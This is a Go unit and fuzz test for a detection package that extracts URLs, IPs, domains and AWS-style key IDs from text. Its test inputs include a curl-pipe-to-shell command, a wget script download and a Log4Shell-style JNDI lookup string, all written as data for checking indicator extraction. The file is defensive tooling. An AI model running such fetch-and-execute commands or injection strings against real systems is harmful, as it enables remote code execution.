package detect

import (
	"strings"
	"testing"

	"bartizan/internal/model"
)

func names(es []model.Entity) string {
	var s []string
	for _, e := range es {
		s = append(s, e.String())
	}
	return strings.Join(s, " ")
}

func TestRelated(t *testing.T) {
	for in, want := range map[string]string{
		"wget http://a.example/x.sh; tftp://192.0.2.9/y":    "url:http://a.example/x.sh domain:a.example url:tftp://192.0.2.9/y ip:192.0.2.9",
		"${jndi:ldap://203.0.113.4:1389/a}":                 "url:ldap://203.0.113.4:1389/a ip:203.0.113.4",
		"curl HTTP://A.example/B|sh and http://a.example/B": "url:http://a.example/B domain:a.example",
		"no://thing ://": "",
		"http://":        "",
	} {
		if got := names(AppendURLs(nil, in, 8)); got != want {
			t.Errorf("%s: %s, want %s", in, got, want)
		}
	}
	if got := names(KeyIDs(nil, "x AKIAIOSFODNN7EXAMPLE and ASIAIOSFODNN7EXAMPLX, AKIAlower")); got != "access-key:AKIAIOSFODNN7EXAMPLE access-key:ASIAIOSFODNN7EXAMPLX" {
		t.Error(got)
	}
	if got := names(AppendURL(nil, "192.0.2.7/bins.sh")); got != "url:http://192.0.2.7/bins.sh ip:192.0.2.7" {
		t.Error(got)
	}
}

func FuzzRelated(f *testing.F) {
	f.Add("wget http://a.example/x AKIAIOSFODNN7EXAMPLE ://")
	f.Fuzz(func(t *testing.T, s string) {
		es := KeyIDs(AppendURLs(AppendURL(nil, s), s, 8), s)
		if len(es) > model.MaxRelated {
			t.Fatalf("%d entities", len(es))
		}
	})
}
